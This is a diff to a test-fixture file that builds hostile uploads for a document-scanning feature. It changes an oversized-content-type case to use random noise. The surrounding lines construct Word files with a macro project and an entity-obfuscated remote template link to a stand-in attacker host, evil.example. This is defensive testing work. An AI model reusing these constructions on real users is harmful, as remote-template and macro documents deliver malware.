@@ -2,7 +2,7 @@ import { FILE_TYPES } from "#app/domain/papers/files/file-types.ts";
 import { EICAR } from "./eicar.ts";
 import { hostileArchives } from "./hostile-archives.ts";
 import { closed, type HostileFile, refused } from "./hostile-file.ts";
-import { box, jpegOf, movieOf, mp3Frames, mp3Tag, pngOf, wavOf } from "./media-builder.ts";
+import { box, jpegOf, movieOf, mp3Frames, mp3Tag, noise, pngOf, wavOf } from "./media-builder.ts";
 import {
   compoundFile,
   contentTypes,
@@ -226,7 +226,7 @@ function loadingMore(): HostileFile[] {
     closed(about, `${about}.docx`, docxOf(["x"], [fromOutside(type, target)]));
   const disguised = fromOutside("attachedTemplate", "&#104;ttps://evil.example/a.dotm");
   const wide = { ...disguised, data: Buffer.from(`\ufeff${disguised.data}`, "utf16le") };
-  const long = `<Default Extension="b" ContentType="${"x".repeat(1_100_000)}"/>`;
+  const long = `<Default Extension="b" ContentType="${noise(600_000).toString("hex")}"/>`;
   const macros =
     '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
   const word = (more: string) => contentTypes("/word/document.xml", WORD_MAIN, more);
